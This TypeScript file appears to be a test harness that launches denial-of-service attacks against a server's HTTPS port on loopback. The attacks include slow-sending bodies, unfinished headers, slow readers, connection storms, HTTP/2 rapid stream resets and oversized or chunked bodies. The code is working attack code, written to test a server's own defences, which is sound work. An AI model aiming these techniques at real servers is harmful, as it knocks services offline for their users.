import { connect as connectHttp2 } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/**
 * Visitors who mean harm, as a process of its own, so that their handshakes do not delay those of the others: `node attacks.ts PORT [NAME…]`
 * begins these attacks at the https port of loopback, by default all, and goes on until it is killed.
 */
const [port, ...names] = process.argv.slice(2);
/** An address of their own, as a limit by address sees them. */
const attacker = { port: Number(port), host: '127.0.0.1', localAddress: '127.0.0.2' };

const ignored = <T extends Socket>(socket: T): T => socket.on('error', () => undefined);
const open = (): Socket => ignored(connectTcp(attacker));
const openTls = (protocols = ['http/1.1']): Socket =>
  ignored(connectTls({ socket: open(), rejectUnauthorized: false, ALPNProtocols: protocols }));
const times = <T>(count: number, work: () => T): T[] => Array.from({ length: count }, () => work());
const post = (path: string, header: string) =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n${header}\r\n\r\n`;

/** Sends a body that never ends, one byte in three seconds. */
function sendSlowly(): void {
  const socket = openTls().resume();
  socket.write(`${post('/api/login', 'Content-Length: 4000')}{"`);
  const timer = setInterval(() => socket.write('a'), 3_000);
  socket.once('close', () => clearInterval(timer));
}

const attacks: Record<string, () => void> = {
  slowSenders: () => void setInterval(sendSlowly, 1_000),
  /** More unfinished requests than one address may have. */
  hoard() {
    let rounds = 60;
    const timer = setInterval(() => {
      times(20, sendSlowly);
      if (--rounds === 0) clearInterval(timer);
    }, 150);
  },
  halfHeads: () => void times(200, () => openTls().resume().write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-')),
  /** Ask for a long response without reading it. */
  slowReaders: () =>
    void times(100, () =>
      openTls()
        .pause()
        .write('GET /api/docs/json HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept-Encoding: identity\r\n\r\n'),
    ),
  /** Bursts of new connections: most are reset at once, others leave after their TLS handshake. */
  storm: () =>
    void setInterval(() => {
      for (const socket of times(50, open)) socket.once('connect', () => socket.resetAndDestroy());
      for (const socket of times(10, openTls)) socket.once('secureConnect', () => socket.destroy());
    }, 500),
  /** HTTP/2 streams that are reset as soon as they are open. */
  resets: () =>
    void times(4, () => {
      const session = connectHttp2('https://127.0.0.1', { createConnection: () => openTls(['h2']) });
      session.on('error', () => undefined);
      setInterval(() => {
        for (let left = 50; left > 0 && !session.closed && !session.destroyed; left -= 1) {
          const stream = session.request({ ':path': '/api/settings' });
          stream.on('error', () => undefined).close(8);
        }
      }, 250);
    }),
  /** Bodies far above every limit: one that says so, one in pieces. */
  oversized: () =>
    void setInterval(() => {
      const piece = Buffer.alloc(64 * 1024, 'a');
      const declared = openTls().resume();
      declared.write(post('/api/login', 'Content-Length: 90000000'));
      declared.write(piece);
      const pieces = openTls().resume();
      pieces.write(post('/api/photos', 'Transfer-Encoding: chunked'));
      let left = 400;
      const next = () => {
        if (left-- === 0 || pieces.destroyed) return;
        pieces.write('10000\r\n');
        pieces.write(piece);
        pieces.write('\r\n', next);
      };
      next();
    }, 1_000),
};

for (const name of names.length > 0 ? names : Object.keys(attacks)) attacks[name]?.();
